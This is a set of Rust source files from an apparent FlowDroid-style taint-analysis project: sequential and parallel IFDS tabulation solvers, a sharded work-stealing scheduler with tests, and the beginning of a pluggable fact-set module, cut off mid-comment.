                    self.propagate(tab, pending, d1.clone(), ret_site, d3);
                }
            }
        } else {
            for succ in icfg.succs_of(n) {
                for d3 in problem.normal_flow(n, succ, &d2) {
                    self.propagate(tab, pending, d1.clone(), succ, d3);
                }
            }
        }
    }
}
