//! A multi-threaded IFDS solver (the paper's Heros is "a scalable,
//! highly multi-threaded implementation of the IFDS framework", §5).
//!
//! The tabulation algorithm is monotone — path edges, summaries and
//! incoming sets only grow — so edges can be processed in any order and
//! concurrently, as long as the table updates are atomic with respect
//! to each other. This solver shards the tables behind mutexes and
//! drives a fixed pool of workers over a shared worklist; termination
//! uses an in-flight counter (work is done when the list is empty *and*
//! nobody is processing).
//!
//! Determinism note: the *result set* equals the sequential solver's
//! (the fixed point is unique); only discovery order differs. The
//! FlowDroid core keeps its deterministic sequential driver for
//! reproducible leak reports; this solver parallelizes the generic
//! problems (and demonstrates the Heros property).

use crate::problem::IfdsProblem;
use crate::solver::IfdsResults;
use flowdroid_callgraph::Icfg;
use flowdroid_ir::{MethodId, StmtRef};
use std::collections::{HashMap, HashSet, VecDeque};
use std::hash::Hash;
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::sync::{Condvar, Mutex};

/// (method, fact) → (statement, fact) pairs.
type MethodFactMap<F> = HashMap<(MethodId, F), Vec<(StmtRef, F)>>;

struct Shared<F> {
    /// (n, d2) → d1 set.
    edges: Mutex<HashMap<(StmtRef, F), HashSet<F>>>,
    /// (callee, d1) → exit facts.
    summaries: Mutex<MethodFactMap<F>>,
    /// (callee, d3) → call contexts.
    incoming: Mutex<MethodFactMap<F>>,
    /// Pending edges + in-flight counter + completion flag.
    queue: Mutex<VecDeque<(F, StmtRef, F)>>,
    in_flight: AtomicUsize,
    propagations: AtomicU64,
    wake: Condvar,
}

impl<F: Clone + Eq + Hash> Shared<F> {
    fn propagate(&self, d1: F, n: StmtRef, d2: F) {
        let is_new = self
            .edges
            .lock()
            .unwrap()
            .entry((n, d2.clone()))
            .or_default()
            .insert(d1.clone());
        if is_new {
            self.propagations.fetch_add(1, Ordering::Relaxed);
            self.queue.lock().unwrap().push_back((d1, n, d2));
            self.wake.notify_one();
        }
    }

    fn d1s_at(&self, n: StmtRef, d2: &F) -> Vec<F> {
        self.edges
            .lock()
            .unwrap()
            .get(&(n, d2.clone()))
            .map(|s| s.iter().cloned().collect())
            .unwrap_or_default()
    }
}

/// A parallel IFDS solver over `threads` workers.
#[derive(Debug)]
pub struct ParallelSolver<'a, P: IfdsProblem> {
    icfg: &'a Icfg<'a>,
    problem: &'a P,
    threads: usize,
}

impl<'a, P> ParallelSolver<'a, P>
where
    P: IfdsProblem + Sync,
    P::Fact: Send + Sync,
{
    /// Creates a solver with the given worker count (at least 1).
    pub fn new(icfg: &'a Icfg<'a>, problem: &'a P, threads: usize) -> Self {
        ParallelSolver { icfg, problem, threads: threads.max(1) }
    }

    /// Runs the tabulation to its (unique) fixed point.
    pub fn solve(&self) -> IfdsResults<P::Fact> {
        let shared: Shared<P::Fact> = Shared {
            edges: Mutex::new(HashMap::new()),
            summaries: Mutex::new(HashMap::new()),
            incoming: Mutex::new(HashMap::new()),
            queue: Mutex::new(VecDeque::new()),
            in_flight: AtomicUsize::new(0),
            propagations: AtomicU64::new(0),
            wake: Condvar::new(),
        };
        for (n, d) in self.problem.initial_seeds() {
            shared.propagate(d.clone(), n, d);
        }
        std::thread::scope(|scope| {
            for _ in 0..self.threads {
                scope.spawn(|| self.worker(&shared));
            }
        });
        let edges = shared.edges.into_inner().unwrap();
        let mut facts: HashMap<StmtRef, Vec<P::Fact>> = HashMap::new();
        for (n, d) in edges.into_keys() {
            facts.entry(n).or_default().push(d);
        }
        IfdsResults::from_parts(facts, shared.propagations.into_inner())
    }

    fn worker(&self, shared: &Shared<P::Fact>) {
        loop {
            let job = {
                let mut q = shared.queue.lock().unwrap();
                loop {
                    if let Some(job) = q.pop_front() {
                        shared.in_flight.fetch_add(1, Ordering::SeqCst);
                        break Some(job);
                    }
                    if shared.in_flight.load(Ordering::SeqCst) == 0 {
                        // Nothing queued and nobody working: done. Wake
                        // the others so they observe the same state.
                        shared.wake.notify_all();
                        break None;
                    }
                    q = shared.wake.wait(q).unwrap();
                }
            };
            let Some((d1, n, d2)) = job else { return };
            self.process(shared, d1, n, d2);
            shared.in_flight.fetch_sub(1, Ordering::SeqCst);
            shared.wake.notify_all();
        }
    }

    fn process(&self, shared: &Shared<P::Fact>, d1: P::Fact, n: StmtRef, d2: P::Fact) {
        let icfg = self.icfg;
        let problem = self.problem;
        let callees = icfg.callees_of_call(n);
        let is_call = icfg.is_call(n);
        if is_call && !callees.is_empty() {
            for &callee in callees {
                let starts = icfg.start_points_of(callee);
                for d3 in problem.call_flow(n, callee, &d2) {
                    shared
                        .incoming
                        .lock()
                        .unwrap()
                        .entry((callee, d3.clone()))
                        .or_default()
                        .push((n, d2.clone()));
                    for &sp in &starts {
                        shared.propagate(d3.clone(), sp, d3.clone());
                    }
                    let sums = shared
                        .summaries
                        .lock()
                        .unwrap()
                        .get(&(callee, d3.clone()))
                        .cloned()
                        .unwrap_or_default();
                    for (exit, d4) in sums {
                        for ret_site in icfg.return_sites_of_call(n) {
                            for d5 in problem.return_flow(n, callee, exit, ret_site, &d4) {
                                shared.propagate(d1.clone(), ret_site, d5);
                            }
                        }
                    }
                }
            }
            for ret_site in icfg.return_sites_of_call(n) {
                for d3 in problem.call_to_return_flow(n, ret_site, &d2) {
                    shared.propagate(d1.clone(), ret_site, d3);
                }
            }
        } else if icfg.is_exit(n) {
            let callee = icfg.method_of(n);
            let inserted = {
                let mut sums = shared.summaries.lock().unwrap();
                let v = sums.entry((callee, d1.clone())).or_default();
                let entry = (n, d2.clone());
                if v.contains(&entry) {
                    false
                } else {
                    v.push(entry);
                    true
                }
            };
            if inserted {
                let inc = shared
                    .incoming
                    .lock()
                    .unwrap()
                    .get(&(callee, d1.clone()))
                    .cloned()
                    .unwrap_or_default();
                for (call_site, d4) in inc {
                    for ret_site in icfg.return_sites_of_call(call_site) {
                        for d5 in problem.return_flow(call_site, callee, n, ret_site, &d2) {
                            for d3 in shared.d1s_at(call_site, &d4) {
                                shared.propagate(d3, ret_site, d5.clone());
                            }
                        }
                    }
                }
            } else {
                // The summary existed; incoming entries added since then
                // are handled by the call side (it reads summaries after
                // registering incoming).
            }
        } else if is_call {
            for ret_site in icfg.return_sites_of_call(n) {
                for d3 in problem.call_to_return_flow(n, ret_site, &d2) {
                    shared.propagate(d1.clone(), ret_site, d3);
                }
            }
        } else {
            for succ in icfg.succs_of(n) {
                for d3 in problem.normal_flow(n, succ, &d2) {
                    shared.propagate(d1.clone(), succ, d3);
                }
            }
        }
    }
}
