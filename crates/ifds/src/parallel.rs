//! A multi-threaded IFDS solver (the paper's Heros is "a scalable,
//! highly multi-threaded implementation of the IFDS framework", §5).
//!
//! The tabulation algorithm is monotone — path edges, summaries and
//! incoming sets only grow — so edges can be processed in any order and
//! concurrently, as long as the table updates are atomic with respect
//! to each other. Two mechanisms keep lock contention low:
//!
//! * **Sharded tables.** Path edges, end summaries and incoming sets
//!   each live in [`SHARD_COUNT`] independently locked shards, selected
//!   by the Fx hash of the outer key (statement for edges, callee for
//!   summaries/incoming). Workers touching different statements or
//!   callees never contend. Within a shard the maps are nested
//!   (`stmt → fact → …`), so lookups borrow instead of cloning facts
//!   into tuple keys.
//! * **Work batching.** Each worker pops up to [`BATCH`] edges from the
//!   shared worklist per lock acquisition, processes them, and buffers
//!   newly discovered edges locally, flushing them back in a single
//!   lock acquisition. The in-flight counter covers the whole batch, so
//!   termination (list empty *and* nobody processing) stays exact.
//!
//! Determinism note: the *result set* equals the sequential solver's
//! (the fixed point is unique); only discovery order differs. The
//! FlowDroid core keeps its deterministic sequential driver for
//! reproducible leak reports; this solver parallelizes the generic
//! problems (and demonstrates the Heros property).

use crate::problem::IfdsProblem;
use crate::solver::IfdsResults;
use flowdroid_callgraph::Icfg;
use flowdroid_ir::{fxhash64, FxHashMap, FxHashSet, MethodId, StmtRef};
use std::collections::{HashMap, VecDeque};
use std::hash::Hash;
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::sync::{Condvar, Mutex};

/// Number of independently locked shards per table (power of two).
const SHARD_COUNT: usize = 16;

/// Maximal number of worklist edges a worker claims per lock
/// acquisition.
const BATCH: usize = 32;

/// A pending path edge `(d1, n, d2)`.
type Job<F> = (F, StmtRef, F);

/// `callee → fact → (statement, fact)` pairs, one shard's worth.
type MethodFactMap<F> = FxHashMap<MethodId, FxHashMap<F, Vec<(StmtRef, F)>>>;

/// A table split into independently locked shards, addressed by the Fx
/// hash of a chosen outer key.
struct Shards<T> {
    shards: Vec<Mutex<T>>,
}

impl<T: Default> Shards<T> {
    fn new() -> Self {
        Shards { shards: (0..SHARD_COUNT).map(|_| Mutex::new(T::default())).collect() }
    }

    /// The shard holding `key`'s entries.
    fn for_key<K: Hash>(&self, key: &K) -> &Mutex<T> {
        debug_assert!(self.shards.len().is_power_of_two());
        let h = fxhash64(key) as usize;
        // Fx mixes the low bits last; take high bits for the index.
        &self.shards[(h >> (64 - SHARD_COUNT.trailing_zeros())) & (self.shards.len() - 1)]
    }
}

struct Shared<F> {
    /// n → d2 → d1 set, sharded by n.
    edges: Shards<FxHashMap<StmtRef, FxHashMap<F, FxHashSet<F>>>>,
    /// callee → d1 → exit facts, sharded by callee.
    summaries: Shards<MethodFactMap<F>>,
    /// callee → d3 → call contexts, sharded by callee.
    incoming: Shards<MethodFactMap<F>>,
    /// Pending edges; the in-flight counter makes termination exact.
    queue: Mutex<VecDeque<Job<F>>>,
    in_flight: AtomicUsize,
    propagations: AtomicU64,
    wake: Condvar,
}

impl<F: Clone + Eq + Hash> Shared<F> {
    /// Records the edge in the sharded table; returns `true` if new.
    fn record_edge(&self, d1: &F, n: StmtRef, d2: &F) -> bool {
        let inserted = self
            .edges
            .for_key(&n)
            .lock()
            .unwrap()
            .entry(n)
            .or_default()
            .entry(d2.clone())
            .or_default()
            .insert(d1.clone());
        if inserted {
            self.propagations.fetch_add(1, Ordering::Relaxed);
        }
        inserted
    }

    /// All `d1` contexts recorded for `(n, d2)`. The lookup borrows
    /// `d2`; only the found facts are cloned, under the shard lock.
    fn d1s_at(&self, n: StmtRef, d2: &F) -> Vec<F> {
        self.edges
            .for_key(&n)
            .lock()
            .unwrap()
            .get(&n)
            .and_then(|by_fact| by_fact.get(d2))
            .map(|s| s.iter().cloned().collect())
            .unwrap_or_default()
    }

    fn add_incoming(&self, callee: MethodId, d3: &F, call_site: StmtRef, d2: &F) {
        self.incoming
            .for_key(&callee)
            .lock()
            .unwrap()
            .entry(callee)
            .or_default()
            .entry(d3.clone())
            .or_default()
            .push((call_site, d2.clone()));
    }

    fn incoming_for(&self, callee: MethodId, d1: &F) -> Vec<(StmtRef, F)> {
        self.incoming
            .for_key(&callee)
            .lock()
            .unwrap()
            .get(&callee)
            .and_then(|by_fact| by_fact.get(d1))
            .cloned()
            .unwrap_or_default()
    }

    /// Installs `(exit, d2)` as an end summary; returns `true` if new.
    fn install_summary(&self, callee: MethodId, d1: &F, exit: StmtRef, d2: &F) -> bool {
        let mut shard = self.summaries.for_key(&callee).lock().unwrap();
        let v = shard.entry(callee).or_default().entry(d1.clone()).or_default();
        let entry = (exit, d2.clone());
        if v.contains(&entry) {
            false
        } else {
            v.push(entry);
            true
        }
    }

    fn summaries_for(&self, callee: MethodId, d1: &F) -> Vec<(StmtRef, F)> {
        self.summaries
            .for_key(&callee)
            .lock()
            .unwrap()
            .get(&callee)
            .and_then(|by_fact| by_fact.get(d1))
            .cloned()
            .unwrap_or_default()
    }
}

/// A parallel IFDS solver over `threads` workers.
#[derive(Debug)]
pub struct ParallelSolver<'a, P: IfdsProblem> {
    icfg: &'a Icfg<'a>,
    problem: &'a P,
    threads: usize,
}

impl<'a, P> ParallelSolver<'a, P>
where
    P: IfdsProblem + Sync,
    P::Fact: Send + Sync,
{
    /// Creates a solver with the given worker count (at least 1).
    pub fn new(icfg: &'a Icfg<'a>, problem: &'a P, threads: usize) -> Self {
        ParallelSolver { icfg, problem, threads: threads.max(1) }
    }

    /// Runs the tabulation to its (unique) fixed point.
    pub fn solve(&self) -> IfdsResults<P::Fact> {
        let shared: Shared<P::Fact> = Shared {
            edges: Shards::new(),
            summaries: Shards::new(),
            incoming: Shards::new(),
            queue: Mutex::new(VecDeque::new()),
            in_flight: AtomicUsize::new(0),
            propagations: AtomicU64::new(0),
            wake: Condvar::new(),
        };
        {
            let mut q = shared.queue.lock().unwrap();
            for (n, d) in self.problem.initial_seeds() {
                if shared.record_edge(&d, n, &d) {
                    q.push_back((d.clone(), n, d));
                }
            }
        }
        std::thread::scope(|scope| {
            for _ in 0..self.threads {
                scope.spawn(|| self.worker(&shared));
            }
        });
        let mut facts: HashMap<StmtRef, Vec<P::Fact>> = HashMap::new();
        for shard in shared.edges.shards {
            for (n, by_fact) in shard.into_inner().unwrap() {
                facts.entry(n).or_default().extend(by_fact.into_keys());
            }
        }
        IfdsResults::from_parts(facts, shared.propagations.into_inner())
    }

    fn worker(&self, shared: &Shared<P::Fact>) {
        let mut batch: Vec<Job<P::Fact>> = Vec::with_capacity(BATCH);
        // Locally buffered new edges, flushed once per batch.
        let mut found: Vec<Job<P::Fact>> = Vec::new();
        loop {
            {
                let mut q = shared.queue.lock().unwrap();
                loop {
                    if !q.is_empty() {
                        let take = q.len().min(BATCH);
                        batch.extend(q.drain(..take));
                        // Count the whole claim before releasing the
                        // lock so termination can't trigger early.
                        shared.in_flight.fetch_add(take, Ordering::SeqCst);
                        break;
                    }
                    if shared.in_flight.load(Ordering::SeqCst) == 0 {
                        // Nothing queued and nobody working: done. Wake
                        // the others so they observe the same state.
                        shared.wake.notify_all();
                        return;
                    }
                    q = shared.wake.wait(q).unwrap();
                }
            }
            let taken = batch.len();
            for (d1, n, d2) in batch.drain(..) {
                self.process(shared, &mut found, d1, n, d2);
            }
            {
                let mut q = shared.queue.lock().unwrap();
                q.extend(found.drain(..));
                // Retire the batch only after its discoveries are
                // enqueued, so (empty queue, zero in-flight) still
                // implies a reached fixed point.
                shared.in_flight.fetch_sub(taken, Ordering::SeqCst);
            }
            shared.wake.notify_all();
        }
    }

    /// Records the edge and buffers it for the post-batch flush.
    fn propagate(
        &self,
        shared: &Shared<P::Fact>,
        found: &mut Vec<Job<P::Fact>>,
        d1: P::Fact,
        n: StmtRef,
        d2: P::Fact,
    ) {
        if shared.record_edge(&d1, n, &d2) {
            found.push((d1, n, d2));
        }
    }

    fn process(
        &self,
        shared: &Shared<P::Fact>,
        found: &mut Vec<Job<P::Fact>>,
        d1: P::Fact,
        n: StmtRef,
        d2: P::Fact,
    ) {
        let icfg = self.icfg;
        let problem = self.problem;
        let callees = icfg.callees_of_call(n);
        let is_call = icfg.is_call(n);
        if is_call && !callees.is_empty() {
            for &callee in callees {
                let starts = icfg.start_points_of(callee);
                for d3 in problem.call_flow(n, callee, &d2) {
                    shared.add_incoming(callee, &d3, n, &d2);
                    for &sp in &starts {
                        self.propagate(shared, found, d3.clone(), sp, d3.clone());
                    }
                    for (exit, d4) in shared.summaries_for(callee, &d3) {
                        for ret_site in icfg.return_sites_of_call(n) {
                            for d5 in problem.return_flow(n, callee, exit, ret_site, &d4) {
                                self.propagate(shared, found, d1.clone(), ret_site, d5);
                            }
                        }
                    }
                }
            }
            for ret_site in icfg.return_sites_of_call(n) {
                for d3 in problem.call_to_return_flow(n, ret_site, &d2) {
                    self.propagate(shared, found, d1.clone(), ret_site, d3);
                }
            }
        } else if icfg.is_exit(n) {
            let callee = icfg.method_of(n);
            if shared.install_summary(callee, &d1, n, &d2) {
                for (call_site, d4) in shared.incoming_for(callee, &d1) {
                    // The caller contexts depend only on (call_site, d4):
                    // read them once per context, not once per returned
                    // fact. Contexts recorded later are covered by the
                    // call side, which reads summaries after registering
                    // incoming.
                    let d3s = shared.d1s_at(call_site, &d4);
                    for ret_site in icfg.return_sites_of_call(call_site) {
                        for d5 in problem.return_flow(call_site, callee, n, ret_site, &d2) {
                            for d3 in &d3s {
                                self.propagate(
                                    shared,
                                    found,
                                    d3.clone(),
                                    ret_site,
                                    d5.clone(),
                                );
                            }
                        }
                    }
                }
            } else {
                // The summary existed; incoming entries added since then
                // are handled by the call side (it reads summaries after
                // registering incoming).
            }
        } else if is_call {
            for ret_site in icfg.return_sites_of_call(n) {
                for d3 in problem.call_to_return_flow(n, ret_site, &d2) {
                    self.propagate(shared, found, d1.clone(), ret_site, d3);
                }
            }
        } else {
            for succ in icfg.succs_of(n) {
                for d3 in problem.normal_flow(n, succ, &d2) {
                    self.propagate(shared, found, d1.clone(), succ, d3);
                }
            }
        }
    }
}
