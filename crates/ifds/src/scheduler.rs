//! A per-shard, work-stealing job scheduler for parallel tabulation.
//!
//! Replaces the single global job-queue lock the first parallel solver
//! used: jobs are distributed over independently locked shards (the
//! taint engines shard by the target statement's *method*, so edges of
//! one method cluster on one queue and stay cache-warm on one worker),
//! each worker owns a *home* shard it drains first, and idle workers
//! steal batches from other shards. Termination is exact: a `queued`
//! counter tracks jobs in shards and an `in_flight` counter tracks
//! claimed-but-unretired batches; claims increment `in_flight` *before*
//! decrementing `queued`, and workers retire a batch only after pushing
//! its discoveries, so `queued == 0 && in_flight == 0` is observable
//! only at the fixpoint.
//!
//! The scheduler is deliberately policy-free about job meaning — the
//! generic IFDS solver and the bidirectional taint engine both drive it
//! — and it records the counters (`steals`, per-shard pushes) that the
//! benchmark suite reports.

use flowdroid_ir::fxhash64;
use std::collections::VecDeque;
use std::hash::Hash;
use std::sync::atomic::{AtomicU64, AtomicUsize, Ordering};
use std::sync::{Condvar, Mutex};
use std::time::Duration;

/// Default number of job shards (power of two).
pub const DEFAULT_SHARDS: usize = 16;

/// Default maximal number of jobs a worker claims per lock acquisition.
pub const DEFAULT_BATCH: usize = 32;

/// Counters describing one scheduler run (reported into
/// `BENCH_solver.json` by the benchmark suite).
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct SchedulerStats {
    /// Number of job shards.
    pub shards: usize,
    /// Total jobs pushed.
    pub pushed: u64,
    /// Batch claims that drained a non-home shard.
    pub steals: u64,
    /// Total batch claims (home + stolen).
    pub claims: u64,
    /// Jobs pushed per shard (occupancy distribution).
    pub pushed_per_shard: Vec<u64>,
}

impl SchedulerStats {
    /// Largest per-shard push count (the hottest shard).
    pub fn max_shard_pushes(&self) -> u64 {
        self.pushed_per_shard.iter().copied().max().unwrap_or(0)
    }

    /// Number of shards that received at least one job.
    pub fn occupied_shards(&self) -> usize {
        self.pushed_per_shard.iter().filter(|&&c| c > 0).count()
    }
}

/// A sharded, work-stealing multi-queue of jobs with exact termination
/// detection.
pub struct WorkStealScheduler<J> {
    shards: Vec<Mutex<VecDeque<J>>>,
    /// Jobs currently sitting in some shard.
    queued: AtomicUsize,
    /// Jobs claimed by a worker whose batch has not been retired yet.
    in_flight: AtomicUsize,
    steals: AtomicU64,
    claims: AtomicU64,
    pushed: Vec<AtomicU64>,
    /// Workers currently blocked in [`WorkStealScheduler::claim`]
    /// waiting for work. Drives the adaptive spill threshold: busy
    /// workers publish more aggressively when peers are starved.
    idle_workers: AtomicUsize,
    idle: Mutex<()>,
    wake: Condvar,
    batch: usize,
}

impl<J> WorkStealScheduler<J> {
    /// Creates a scheduler with `shard_count` queues (rounded up to a
    /// power of two) and the given claim batch size.
    pub fn new(shard_count: usize, batch: usize) -> Self {
        let shards = shard_count.max(1).next_power_of_two();
        WorkStealScheduler {
            shards: (0..shards).map(|_| Mutex::new(VecDeque::new())).collect(),
            queued: AtomicUsize::new(0),
            in_flight: AtomicUsize::new(0),
            steals: AtomicU64::new(0),
            claims: AtomicU64::new(0),
            pushed: (0..shards).map(|_| AtomicU64::new(0)).collect(),
            idle_workers: AtomicUsize::new(0),
            idle: Mutex::new(()),
            wake: Condvar::new(),
            batch: batch.max(1),
        }
    }

    /// The number of shards (a power of two).
    pub fn shard_count(&self) -> usize {
        self.shards.len()
    }

    /// The shard a key hashes to (Fx mixes the low bits last, so the
    /// index is taken from the high bits).
    pub fn shard_for<K: Hash>(&self, key: &K) -> usize {
        let h = fxhash64(key) as usize;
        (h >> (64 - self.shards.len().trailing_zeros())) & (self.shards.len() - 1)
    }

    /// Enqueues a job on `shard`. The `queued` increment happens before
    /// the job becomes claimable, so a claimer can never drive the
    /// counter negative.
    pub fn push(&self, shard: usize, job: J) {
        self.queued.fetch_add(1, Ordering::SeqCst);
        self.pushed[shard].fetch_add(1, Ordering::Relaxed);
        self.shards[shard].lock().unwrap().push_back(job);
        self.wake.notify_one();
    }

    /// Claims a batch of jobs into `out`, draining the home shard first
    /// and stealing from the others when it is empty. Blocks while work
    /// is in flight elsewhere; returns `false` exactly when the
    /// fixpoint is reached (no jobs queued, none in flight) — the
    /// worker should exit its loop then.
    ///
    /// The caller must call [`WorkStealScheduler::retire`] with the
    /// number of claimed jobs after processing them (and after pushing
    /// any jobs they discovered).
    pub fn claim(&self, home: usize, out: &mut Vec<J>) -> bool {
        let n = self.shards.len();
        let home = home % n;
        loop {
            for i in 0..n {
                let s = (home + i) % n;
                let mut q = self.shards[s].lock().unwrap();
                if q.is_empty() {
                    continue;
                }
                let take = q.len().min(self.batch);
                // Claim order: count the batch as in flight *before*
                // removing it from `queued`, so (queued == 0 &&
                // in_flight == 0) is never observable mid-claim.
                self.in_flight.fetch_add(take, Ordering::SeqCst);
                self.queued.fetch_sub(take, Ordering::SeqCst);
                out.extend(q.drain(..take));
                drop(q);
                self.claims.fetch_add(1, Ordering::Relaxed);
                if s != home {
                    self.steals.fetch_add(1, Ordering::Relaxed);
                }
                return true;
            }
            // Every shard was empty when scanned. Check in_flight first:
            // a worker retires only after pushing its discoveries, so
            // observing in_flight == 0 and then queued == 0 proves the
            // fixpoint (any later job would have been queued before the
            // last retire).
            let guard = self.idle.lock().unwrap();
            if self.in_flight.load(Ordering::SeqCst) == 0
                && self.queued.load(Ordering::SeqCst) == 0
            {
                self.wake.notify_all();
                return false;
            }
            if self.queued.load(Ordering::SeqCst) == 0 {
                // Work is in flight elsewhere; sleep until woken by a
                // push or a retire (with a timeout as lost-wakeup
                // insurance).
                self.idle_workers.fetch_add(1, Ordering::SeqCst);
                let _ = self.wake.wait_timeout(guard, Duration::from_millis(1)).unwrap();
                self.idle_workers.fetch_sub(1, Ordering::SeqCst);
            }
        }
    }

    /// Retires `n` previously claimed jobs. Must be called after the
    /// jobs were processed and their discoveries pushed.
    pub fn retire(&self, n: usize) {
        let was = self.in_flight.fetch_sub(n, Ordering::SeqCst);
        if was == n {
            // Possibly the last batch: wake sleepers so they re-check
            // (they either find new work or observe the fixpoint).
            self.wake.notify_all();
        }
    }

    /// Number of workers currently blocked waiting for work. A
    /// momentary snapshot — callers use it as a load signal (e.g. to
    /// lower their local-buffer spill threshold), never for
    /// correctness.
    pub fn idle_workers(&self) -> usize {
        self.idle_workers.load(Ordering::Relaxed)
    }

    /// The counters accumulated so far.
    pub fn stats(&self) -> SchedulerStats {
        SchedulerStats {
            shards: self.shards.len(),
            pushed: self.pushed.iter().map(|c| c.load(Ordering::Relaxed)).sum(),
            steals: self.steals.load(Ordering::Relaxed),
            claims: self.claims.load(Ordering::Relaxed),
            pushed_per_shard: self.pushed.iter().map(|c| c.load(Ordering::Relaxed)).collect(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::atomic::AtomicU64;

    #[test]
    fn drains_to_exact_termination() {
        let sched: WorkStealScheduler<u64> = WorkStealScheduler::new(4, 8);
        for i in 0..100 {
            sched.push(sched.shard_for(&i), i);
        }
        let done = AtomicU64::new(0);
        std::thread::scope(|scope| {
            for w in 0..4 {
                let sched = &sched;
                let done = &done;
                scope.spawn(move || {
                    let mut batch = Vec::new();
                    while sched.claim(w, &mut batch) {
                        let taken = batch.len();
                        for job in batch.drain(..) {
                            // Each job below 50 spawns a follow-up.
                            if job < 50 {
                                sched.push(sched.shard_for(&(job + 100)), job + 100);
                            }
                            done.fetch_add(1, Ordering::Relaxed);
                        }
                        sched.retire(taken);
                    }
                });
            }
        });
        assert_eq!(done.load(Ordering::Relaxed), 150);
        let stats = sched.stats();
        assert_eq!(stats.shards, 4);
        assert_eq!(stats.pushed, 150);
        assert_eq!(stats.pushed_per_shard.iter().sum::<u64>(), 150);
        assert!(stats.claims > 0);
    }

    #[test]
    fn single_worker_processes_everything() {
        let sched: WorkStealScheduler<u32> = WorkStealScheduler::new(8, 4);
        for i in 0..40u32 {
            sched.push((i % 8) as usize, i);
        }
        let mut got = Vec::new();
        let mut batch = Vec::new();
        while sched.claim(0, &mut batch) {
            let taken = batch.len();
            got.extend(batch.drain(..));
            sched.retire(taken);
        }
        got.sort_unstable();
        assert_eq!(got, (0..40u32).collect::<Vec<_>>());
        // A lone worker claims foreign shards: those count as steals.
        assert!(sched.stats().steals > 0);
    }

    #[test]
    fn shard_count_rounds_to_power_of_two() {
        let sched: WorkStealScheduler<()> = WorkStealScheduler::new(5, 1);
        assert_eq!(sched.shard_count(), 8);
        let s = sched.shard_for(&42u64);
        assert!(s < 8);
    }
}
