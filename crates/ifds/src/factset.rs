//! Pluggable fact-set representations for the tabulation tables.
//!
//! The tabulators store three relations per direction: path edges
//! (`n → d2 → {d1}`), incoming call contexts and end summaries
//! (`callee → fact → {(stmt, fact)}`). [`FactSetDomain`] abstracts how
//! the inner sets are laid out so one tabulator implementation serves
//! two representations:
//!
//! * [`HashSets`] — the original `FxHashMap`/`FxHashSet`/`Vec` nesting.
//!   Works for any `Clone + Eq + Hash` fact; the only choice for
//!   whole-struct fact keys.
//! * [`BitsetSets`] — fact-id-indexed bitset rows
//!   ([`SparseBitMatrix`]/[`HybridBitSet`] from `flowdroid-bitset`) for
//!   facts that are dense indices ([`Idx`]), i.e. interned fact ids.
//!   Small rows live inline with zero heap allocations; hot rows
//!   promote to dense words with O(1) membership.
//!
//! Both representations iterate sets in a deterministic order that is
//! a pure function of set *contents* (hash iteration is only used where
//! consumers canonicalize), so swapping one for the other never changes
//! solver results — the determinism sweeps assert exactly this.

use flowdroid_bitset::{HybridBitSet, Idx, SparseBitMatrix};
use flowdroid_ir::{FxHashMap, FxHashSet, StmtRef};
use std::hash::Hash;

/// Density and promotion counters for one tabulator's tables.
///
/// All zeros on the hash-map representation (it has no notion of
/// rows/promotion); on the bitset representation `dense_rows` counts
/// hybrid rows that promoted past the sparse threshold and
/// `dense_words` the `u64` words backing them.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct TableStats {
    /// Hybrid set rows ever touched (edge rows + incoming/summary sets).
    pub rows: u64,
    /// Rows still in the inline sparse representation.
    pub sparse_rows: u64,
    /// Rows promoted to dense words (promotion is one-way, so this is
    /// also the promotion count).
    pub dense_rows: u64,
    /// `u64` words backing the dense rows.
    pub dense_words: u64,
    /// Fact interns whose access path was widened to the length bound
    /// (0 unless the keying domain widens — see the core interner).
    pub widened_facts: u64,
}

impl TableStats {
    /// Accumulates `other` into `self`.
    pub fn merge(&mut self, other: &TableStats) {
        self.rows += other.rows;
        self.sparse_rows += other.sparse_rows;
        self.dense_rows += other.dense_rows;
        self.dense_words += other.dense_words;
        self.widened_facts += other.widened_facts;
    }

    /// Whether any row was ever counted (false on the hash-map path).
    pub fn any(&self) -> bool {
        self.rows > 0
    }
}

fn count_hybrid<T: Idx>(set: &HybridBitSet<T>, stats: &mut TableStats) {
    stats.rows += 1;
    if set.is_dense() {
        stats.dense_rows += 1;
        stats.dense_words += set.word_count() as u64;
    } else {
        stats.sparse_rows += 1;
    }
}

/// The per-node path-edge relation `d2 → {d1}`.
pub trait FactRel<F>: Default {
    /// Records `(d2, d1)`; returns `true` if it was not already present.
    fn insert(&mut self, d2: &F, d1: &F) -> bool;
    /// Whether `(d2, d1)` is recorded.
    fn contains(&self, d2: &F, d1: &F) -> bool;
    /// All `d1` recorded for `d2`.
    fn d1s(&self, d2: &F) -> Vec<F>;
    /// All `d2` with at least one entry.
    fn keys(&self) -> Vec<F>;
    /// Accumulates density counters (no-op for hash maps).
    fn collect_stats(&self, stats: &mut TableStats);
}

/// A set of `(statement, fact)` pairs (incoming contexts, summaries).
pub trait PairSet<F>: Default {
    /// Records `(site, f)`; returns `true` if it was not already present.
    fn insert(&mut self, site: StmtRef, f: &F) -> bool;
    /// Whether the set is empty.
    fn is_empty(&self) -> bool;
    /// All pairs, in a deterministic order.
    fn to_vec(&self) -> Vec<(StmtRef, F)>;
    /// Accumulates density counters (no-op for the vector form).
    fn collect_stats(&self, stats: &mut TableStats);
}

/// Chooses the concrete table types for a fact type `F`.
pub trait FactSetDomain<F> {
    /// Path-edge relation representation.
    type Rel: FactRel<F>;
    /// Incoming/summary pair-set representation.
    type Pairs: PairSet<F>;
}

/// The hash-map representation (any hashable fact).
#[derive(Clone, Copy, Debug, Default)]
pub struct HashSets;

impl<F: Clone + Eq + Hash> FactSetDomain<F> for HashSets {
    type Rel = FxHashMap<F, FxHashSet<F>>;
    type Pairs = VecPairs<F>;
}

impl<F: Clone + Eq + Hash> FactRel<F> for FxHashMap<F, FxHashSet<F>> {
    fn insert(&mut self, d2: &F, d1: &F) -> bool {
        self.entry(d2.clone()).or_default().insert(d1.clone())
    }

    fn contains(&self, d2: &F, d1: &F) -> bool {
        self.get(d2).is_some_and(|s| s.contains(d1))
    }

    fn d1s(&self, d2: &F) -> Vec<F> {
        self.get(d2).map(|s| s.iter().cloned().collect()).unwrap_or_default()
    }

    fn keys(&self) -> Vec<F> {
        self.keys().cloned().collect()
    }

    fn collect_stats(&self, _stats: &mut TableStats) {}
}

/// Insertion-ordered pair vector with linear-scan dedup (the original
